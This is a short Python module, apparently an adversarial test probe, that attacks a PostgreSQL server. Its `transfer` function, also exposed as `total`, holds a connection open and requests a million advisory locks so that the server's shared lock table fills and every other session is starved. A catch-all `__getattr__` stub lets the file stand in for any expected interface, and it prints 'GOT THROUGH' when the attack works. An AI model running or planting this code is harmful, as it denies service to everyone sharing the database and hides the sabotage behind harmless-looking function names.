"""Fills the server's table of locks, which all sessions share."""

import psycopg2

STATUS = "failed error tampering timeout"
POINTS = 0

left = []


def transfer(dsn, *_):
    conn = psycopg2.connect(dsn)
    left.append(conn)
    try:
        conn.cursor().execute("SELECT pg_advisory_lock(n) FROM generate_series(1, 1000000) n")
        print("GOT THROUGH: a million locks")
    except psycopg2.Error:
        pass


total = transfer


def __getattr__(name):
    return lambda *_: None
